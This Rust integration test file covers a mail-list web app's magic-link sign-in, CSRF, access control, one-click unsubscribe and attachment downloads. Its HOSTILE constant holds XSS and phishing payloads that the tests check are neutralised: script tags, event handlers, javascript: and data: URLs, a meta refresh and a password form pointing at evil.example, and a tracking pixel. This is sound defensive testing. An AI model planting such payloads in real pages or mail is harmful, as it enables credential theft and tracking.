//! The web door's sign-in, pages and one-click unsubscribe over real HTTP, on SQLite and
//! PostgreSQL: the magic link is read from the outbox like a member would; it works once, within
//! 15 minutes (fake clock), only by POST; strangers get the same answer and no mail; POSTs need
//! the session's CSRF token; a member sees only their spaces (others: 404, like absent ones);
//! RFC 8058 unsubscribe is idempotent and stops fan-out; hostile mail HTML renders inert.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use docket::space::MemberSettings;
use support::http::{self, Response};
use support::{Mail, TestApp, backends, t0};

/// A web door on 127.0.0.1:0 over the test app: spaces `eng` (alice, bob) and `ops` (carol).
struct Site {
    t: TestApp,
    addr: String,
}

async fn site(t: TestApp) -> Site {
    let at = t0().timestamp();
    let eng = t.app.store.add_space("eng", "Engineering", at).await.unwrap();
    let ops = t.app.store.add_space("ops", "Operations", at).await.unwrap();
    for (space, email, handle) in
        [(&eng, "alice@example.org", "alice"), (&eng, "bob@example.org", "bob"), (&ops, "carol@example.org", "carol")]
    {
        t.app.store.add_member(space, email, handle, &MemberSettings::default(), at).await.unwrap();
    }
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap().to_string();
    let router = docket::web::router(t.app.clone());
    tokio::spawn(async move { axum::serve(listener, router).await.unwrap() });
    Site { t, addr }
}

impl Site {
    async fn get(&self, path: &str, cookie: Option<&str>) -> Response {
        let c = cookie.map(|c| format!("docket_session={c}"));
        let headers: Vec<(&str, &str)> = c.iter().map(|c| ("Cookie", c.as_str())).collect();
        http::get(&self.addr, path, &headers).await
    }

    async fn post(&self, path: &str, cookie: Option<&str>, form: &str) -> Response {
        let c = cookie.map(|c| format!("docket_session={c}"));
        let headers: Vec<(&str, &str)> = c.iter().map(|c| ("Cookie", c.as_str())).collect();
        http::post_form(&self.addr, path, &headers, form).await
    }

    /// Sends what is queued and returns the outbox mail for `to` (raw), oldest first.
    async fn mail_for(&self, to: &str) -> Vec<String> {
        docket::notify::outbound::deliver(&self.t.app, self.t.app.now()).await.unwrap();
        let dir = self.t.app.config.server.data_dir.join("outbox/new");
        let mut files: Vec<_> = std::fs::read_dir(&dir).into_iter().flatten().map(|e| e.unwrap().path()).collect();
        files.sort_by_key(|p| std::fs::metadata(p).unwrap().modified().unwrap());
        files
            .into_iter()
            .map(|p| std::fs::read_to_string(p).unwrap())
            .filter(|raw| raw.lines().any(|l| l.eq_ignore_ascii_case(&format!("Delivered-To: {to}"))))
            .collect()
    }

    /// The sign-in links mailed to `to` (paths), oldest first.
    async fn login_links(&self, to: &str) -> Vec<String> {
        self.mail_for(to)
            .await
            .iter()
            .filter_map(|raw| {
                let text = docket::parse::mime::parse(raw.as_bytes()).text.unwrap_or_default();
                let at = text.find("/login/")?;
                Some(text[at..at + 7 + 64].to_string())
            })
            .collect()
    }

    /// Signs `email` in through the mailed link: (session cookie value, CSRF token).
    async fn sign_in(&self, email: &str) -> (String, String) {
        let before = self.login_links(email).await.len();
        let r = self.post("/login", None, &format!("email={}", email.replace('@', "%40"))).await;
        assert_eq!(r.status, 200, "{r:?}");
        let links = self.login_links(email).await;
        assert_eq!(links.len(), before + 1, "one new link for {email}");
        let r = self.post(links.last().unwrap(), None, "").await;
        assert_eq!(r.status, 303, "{r:?}");
        let cookie = session(&r).expect("a session cookie");
        let home = self.get("/", Some(&cookie)).await;
        assert_eq!(home.status, 200, "{home:?}");
        (cookie, csrf(&home.body))
    }
}

fn session(r: &Response) -> Option<String> {
    r.headers("set-cookie").iter().find_map(|c| c.strip_prefix("docket_session=")).map(|c| c.split(';').next().unwrap().to_string())
}

fn csrf(body: &str) -> String {
    let at = body.find("name=\"csrf\" value=\"").expect("a form with a CSRF token") + 19;
    body[at..at + 64].to_string()
}

#[tokio::test]
async fn a_member_signs_in_with_the_mailed_link_once_and_signs_out() {
    for t in backends().await {
        let s = site(t).await;
        let b = s.t.backend;
        let form = s.get("/login", None).await;
        assert_eq!(form.status, 200, "{b}");
        assert!(form.body.contains("name=\"email\"") && form.body.contains("<label for=\"email\""), "{}", form.body);
        // Pages need a session.
        assert_eq!(s.get("/", None).await.status, 401, "{b}");
        let r = s.post("/login", None, "email=Alice%40Example.org").await;
        assert_eq!(r.status, 200, "{b}: {r:?}");
        assert!(r.body.contains("a sign-in link is on its way"), "{}", r.body);
        let links = s.login_links("alice@example.org").await;
        assert_eq!(links.len(), 1, "{b}: one mail");
        let link = &links[0];
        // Opening the link (a person, or a mail scanner) spends nothing: it only shows a button.
        for _ in 0..2 {
            let page = s.get(link, None).await;
            assert_eq!(page.status, 200, "{b}: {page:?}");
            assert!(page.body.contains(&format!("action=\"{link}\"")) && page.body.contains("method=\"post\""), "{}", page.body);
            assert!(session(&page).is_none());
        }
        let r = s.post(link, None, "").await;
        assert_eq!((r.status, r.header("location")), (303, Some("/")), "{b}: {r:?}");
        let cookie_header = r.header("set-cookie").unwrap();
        assert!(cookie_header.contains("HttpOnly") && cookie_header.contains("SameSite=Lax"), "{cookie_header}");
        assert!(!cookie_header.contains("Secure"), "http base_url: no Secure flag: {cookie_header}");
        let cookie = session(&r).unwrap();
        let home = s.get("/", Some(&cookie)).await;
        assert_eq!(home.status, 200, "{b}");
        assert!(home.body.contains("href=\"/s/eng\"") && !home.body.contains("/s/ops"), "{}", home.body);
        // Used once: the same link neither shows the button nor signs anybody in again.
        let again = s.post(link, None, "").await;
        assert_eq!(again.status, 410, "{b}: {again:?}");
        assert!(session(&again).is_none());
        assert_eq!(s.get(link, None).await.status, 410, "{b}");
        // Signing out needs the CSRF token.
        assert_eq!(s.post("/logout", Some(&cookie), "").await.status, 403, "{b}");
        assert_eq!(s.post("/logout", Some(&cookie), "csrf=0000").await.status, 403, "{b}");
        assert_eq!(s.get("/", Some(&cookie)).await.status, 200, "{b}: a refused logout ends nothing");
        let token = csrf(&home.body);
        let out = s.post("/logout", Some(&cookie), &format!("csrf={token}")).await;
        assert_eq!((out.status, out.header("location")), (303, Some("/login")), "{b}: {out:?}");
        assert!(out.header("set-cookie").unwrap().contains("Max-Age=0"), "{out:?}");
        assert_eq!(s.get("/", Some(&cookie)).await.status, 401, "{b}: the session is gone");
    }
}

#[tokio::test]
async fn strangers_get_the_same_answer_and_no_mail_and_links_are_rate_limited() {
    for t in backends().await {
        let s = site(t).await;
        let b = s.t.backend;
        // Both answers wait for the same floor, so the member's extra writes do not show.
        let started = std::time::Instant::now();
        let member = s.post("/login", None, "email=bob%40example.org").await;
        let member_took = started.elapsed();
        let started = std::time::Instant::now();
        let stranger = s.post("/login", None, "email=mallory%40example.org").await;
        let stranger_took = started.elapsed();
        assert_eq!((member.status, stranger.status), (200, 200), "{b}");
        let floor = docket::web::login::ANSWER_FLOOR;
        assert!(member_took >= floor && stranger_took >= floor, "{b}: {member_took:?} and {stranger_took:?} both at least {floor:?}");
        assert_eq!(member.body.replace("bob@example.org", "X"), stranger.body.replace("mallory@example.org", "X"), "{b}: same page");
        assert!(s.mail_for("mallory@example.org").await.is_empty(), "{b}: no mail to strangers");
        assert!(s.t.app.store.outbound_for("mallory@example.org").await.unwrap().is_empty(), "{b}");
        // A few links per address per 15 minutes; more asks are answered alike and mail nothing.
        for _ in 0..4 {
            assert_eq!(s.post("/login", None, "email=bob%40example.org").await.status, 200);
        }
        assert_eq!(s.login_links("bob@example.org").await.len(), 3, "{b}: rate limited");
        s.t.clock.advance(chrono::Duration::minutes(16));
        s.post("/login", None, "email=bob%40example.org").await;
        assert_eq!(s.login_links("bob@example.org").await.len(), 4, "{b}: a new window");
        // Not an address at all: said so (that reveals nothing about members).
        assert_eq!(s.post("/login", None, "email=nonsense").await.status, 400, "{b}");
        // A form posted from another site is refused (login CSRF).
        let cross = http::post_form(&s.addr, "/login", &[("Sec-Fetch-Site", "cross-site")], "email=bob%40example.org").await;
        assert_eq!(cross.status, 403, "{b}");
    }
}

#[tokio::test]
async fn a_link_expires_after_15_minutes() {
    for t in backends().await {
        let s = site(t).await;
        let b = s.t.backend;
        s.post("/login", None, "email=alice%40example.org").await;
        let link = s.login_links("alice@example.org").await.pop().unwrap();
        s.t.clock.advance(chrono::Duration::minutes(14) + chrono::Duration::seconds(59));
        assert_eq!(s.get(&link, None).await.status, 200, "{b}: still valid at 14:59");
        s.t.clock.advance(chrono::Duration::seconds(1));
        assert_eq!(s.get(&link, None).await.status, 410, "{b}: expired at 15:00");
        let r = s.post(&link, None, "").await;
        assert_eq!(r.status, 410, "{b}");
        assert!(session(&r).is_none());
        // A made-up token is no better.
        let fake = format!("/login/{}", "ab".repeat(32));
        assert_eq!(s.post(&fake, None, "").await.status, 410, "{b}");
        assert_eq!(s.get("/login/short", None).await.status, 410, "{b}");
    }
}

#[tokio::test]
async fn a_member_sees_only_their_spaces() {
    for t in backends().await {
        let s = site(t).await;
        let b = s.t.backend;
        let ops_thread = s.t.thread_of(&Mail::new("o1@example.org", "Pager rota").from("carol@example.org").raw(), "ops").await;
        let eng_thread = s.t.thread_of(&Mail::new("e1@example.org", "Release plan").from("bob@example.org").raw(), "eng").await;
        let (alice, _) = s.sign_in("alice@example.org").await;
        let mine = s.get(&format!("/t/{eng_thread}"), Some(&alice)).await;
        assert_eq!(mine.status, 200, "{b}");
        assert!(mine.body.contains("Release plan"), "{}", mine.body);
        let theirs = s.get(&format!("/t/{ops_thread}"), Some(&alice)).await;
        let absent = s.get("/t/999999", Some(&alice)).await;
        assert_eq!((theirs.status, absent.status), (404, 404), "{b}");
        assert_eq!(theirs.body, absent.body, "{b}: the same answer as for a thread that does not exist");
        assert!(!theirs.body.contains("Pager rota"));
        assert_eq!(s.get("/t/abc", Some(&alice)).await.status, 404, "{b}: a thread id that is not a number is a missing page");
        assert_eq!(s.get("/t/abc/m/x/cid/y", Some(&alice)).await.status, 404, "{b}");
        assert_eq!(s.get("/s/ops", Some(&alice)).await.status, 404, "{b}");
        assert_eq!(s.get("/s/nope", Some(&alice)).await.status, 404, "{b}");
        let space = s.get("/s/eng", Some(&alice)).await;
        assert_eq!(space.status, 200, "{b}");
        assert!(space.body.contains(&format!("href=\"/t/{eng_thread}\"")), "{}", space.body);
        let (carol, _) = s.sign_in("carol@example.org").await;
        assert_eq!(s.get(&format!("/t/{ops_thread}"), Some(&carol)).await.status, 200, "{b}");
        assert_eq!(s.get(&format!("/t/{eng_thread}"), Some(&carol)).await.status, 404, "{b}");
        assert_eq!(s.get(&format!("/t/{ops_thread}/m/1/cid/x"), Some(&alice)).await.status, 404, "{b}");
        assert_eq!(s.get(&format!("/t/{eng_thread}"), None).await.status, 401, "{b}: no session");
    }
}

/// The `/unsubscribe/…` URL of the List-Unsubscribe header of a mail (path only).
fn unsubscribe_path(raw: &str) -> String {
    let line = raw.lines().find(|l| l.starts_with("List-Unsubscribe:")).expect("a List-Unsubscribe header");
    let at = line.find("/unsubscribe/").unwrap();
    line[at..].split('>').next().unwrap().to_string()
}

#[tokio::test]
async fn one_click_unsubscribe_is_idempotent_and_stops_fan_out() {
    for t in backends().await {
        let s = site(t).await;
        let b = s.t.backend;
        s.t.ingest(&Mail::new("u1@example.org", "Lunch").from("bob@example.org").raw(), "eng").await;
        docket::tick::tick(&s.t.app, s.t.app.now()).await.unwrap();
        let copies = s.mail_for("alice@example.org").await;
        assert_eq!(copies.len(), 1, "{b}: alice gets bob's message");
        let path = unsubscribe_path(&copies[0]);
        let page = s.get(&path, None).await;
        assert_eq!(page.status, 200, "{b}: {page:?}");
        assert!(page.body.contains("name=\"List-Unsubscribe\" value=\"One-Click\""), "{}", page.body);
        // The GET changed nothing.
        let member =
            s.t.app.store.member(s.t.app.store.space("eng").await.unwrap().unwrap().id, "alice@example.org").await.unwrap().unwrap();
        assert!(s.t.app.store.mutes(member.space_id).await.unwrap().is_empty(), "{b}");
        for _ in 0..2 {
            let r = s.post(&path, None, "List-Unsubscribe=One-Click").await;
            assert_eq!(r.status, 200, "{b}: {r:?}");
            assert!(r.body.contains("You are unsubscribed"), "{}", r.body);
        }
        assert_eq!(s.t.app.store.mutes(member.space_id).await.unwrap(), vec![(member.id, -1)], "{b}");
        assert_eq!(s.post(&path, None, "").await.status, 400, "{b}: RFC 8058 body required");
        // Tokens that are not ours, or not for this space, are 404.
        let bad = format!("{}x", path);
        assert_eq!(s.get(&bad, None).await.status, 404, "{b}");
        assert_eq!(s.post(&bad, None, "List-Unsubscribe=One-Click").await.status, 404, "{b}");
        assert_eq!(s.get(&path.replace("/eng/", "/ops/"), None).await.status, 404, "{b}");
        // Bob writes again: alice gets nothing.
        s.t.ingest(&Mail::new("u2@example.org", "Lunch again").from("bob@example.org").raw(), "eng").await;
        s.t.clock.advance(chrono::Duration::minutes(1));
        docket::tick::tick(&s.t.app, s.t.app.now()).await.unwrap();
        assert_eq!(s.mail_for("alice@example.org").await.len(), 1, "{b}: no new copy after unsubscribing");
    }
}

const HOSTILE: &str = r#"<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"><style>body{background:url(https://evil.example/t.png)}</style></head><body>
<p onclick="steal()">Quarterly numbers<script>steal()</script></p>
<img src="https://tracker.example/pixel.gif" alt="logo"><img src="x" onerror="steal()">
<a href="javascript:steal()">js</a> <a href="data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+">data</a>
<svg onload="steal()"><script>steal()</script></svg><div style="width: expression(steal())">css</div>
<form action="https://evil.example/"><input name="password"><button>Log in</button></form>
<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><base href="https://evil.example/">
</body></html>"#;

#[tokio::test]
async fn hostile_mail_html_renders_inert() {
    for t in backends().await {
        let s = site(t).await;
        let b = s.t.backend;
        let raw = format!(
            "From: bob@example.org\r\nTo: eng@docket.test\r\nSubject: Numbers\r\nDate: Tue, 24 Nov 2026 08:00:00 +0000\r\n\
             Message-ID: <h1@example.org>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{}",
            HOSTILE.replace('\n', "\r\n")
        );
        let thread = s.t.thread_of(raw.as_bytes(), "eng").await;
        let (alice, _) = s.sign_in("alice@example.org").await;
        let r = s.get(&format!("/t/{thread}"), Some(&alice)).await;
        assert_eq!(r.status, 200, "{b}");
        assert!(r.header("content-security-policy").unwrap().contains("default-src 'none'"), "{r:?}");
        let body = r.body.to_ascii_lowercase();
        assert!(body.contains("quarterly numbers"), "{b}: the text is there: {}", r.body);
        for bad in [
            "<script",
            "onclick",
            "onerror",
            "onload",
            "javascript:",
            "data:text",
            "<svg",
            "expression(",
            "style=",
            "<style",
            "<iframe",
            "<object",
            "<base",
            "http-equiv",
            "action=\"https://evil",
            "name=\"password\"",
            "src=\"https://tracker",
        ] {
            assert!(!body.contains(bad), "{b}: {bad} in the page: {}", r.body);
        }
        assert!(r.body.contains("class=\"remote-image\" href=\"https://tracker.example/pixel.gif\""), "{b}: remote image as a link");
    }
}

/// A mail with a PDF and an HTML file attached: both are listed with a link and served only as
/// downloads (never rendered as a page of docket's origin), to members of the space only.
#[tokio::test]
async fn attachments_download_for_members_only() {
    for t in backends().await {
        let s = site(t).await;
        let b = s.t.backend;
        let raw = "From: Bob <bob@example.org>\r\nTo: eng@docket.test\r\nSubject: Specs\r\nDate: Tue, 24 Nov 2026 08:00:00 +0000\r\n\
                   Message-ID: <att-1@example.org>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n\
                   --b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSpecs attached.\r\n\
                   --b\r\nContent-Type: application/pdf; name=\"Spec v2.pdf\"\r\nContent-Disposition: attachment; filename=\"Spec v2.pdf\"\r\n\
                   Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQKJcOkw7w=\r\n\
                   --b\r\nContent-Type: text/html; name=\"evil.html\"\r\nContent-Disposition: attachment; filename=\"évil.html\"\r\n\r\n\
                   <script>alert(1)</script>\r\n--b--\r\n";
        let thread = s.t.thread_of(raw.as_bytes(), "eng").await;
        let (alice, _) = s.sign_in("alice@example.org").await;
        let page = s.get(&format!("/t/{thread}"), Some(&alice)).await;
        let link = page.body.split("href=\"").filter_map(|p| p.split('"').next()).find(|h| h.contains("/a/0")).expect("a download link");
        let pdf = s.get(link, Some(&alice)).await;
        assert_eq!(pdf.status, 200, "{b}");
        assert_eq!(pdf.header("content-type"), Some("application/pdf"), "{b}");
        assert!(pdf.header("content-disposition").unwrap().starts_with("attachment; filename=\"Spec v2.pdf\""), "{b}: {pdf:?}");
        assert!(pdf.body.starts_with("%PDF-1.4"), "{b}: decoded: {:?}", pdf.body);
        let html = s.get(&link.replace("/a/0", "/a/1"), Some(&alice)).await;
        assert_eq!(html.status, 200, "{b}");
        let disposition = html.header("content-disposition").unwrap();
        assert!(disposition.starts_with("attachment;") && disposition.contains("filename*=UTF-8''%C3%A9vil.html"), "{b}: {disposition}");
        assert_eq!(html.header("x-content-type-options"), Some("nosniff"), "{b}");
        assert_eq!(s.get(&link.replace("/a/0", "/a/2"), Some(&alice)).await.status, 404, "{b}: no third attachment");
        let (carol, _) = s.sign_in("carol@example.org").await;
        assert_eq!(s.get(link, Some(&carol)).await.status, 404, "{b}: another space's member");
        assert_eq!(s.get(link, None).await.status, 401, "{b}: no session");
    }
}
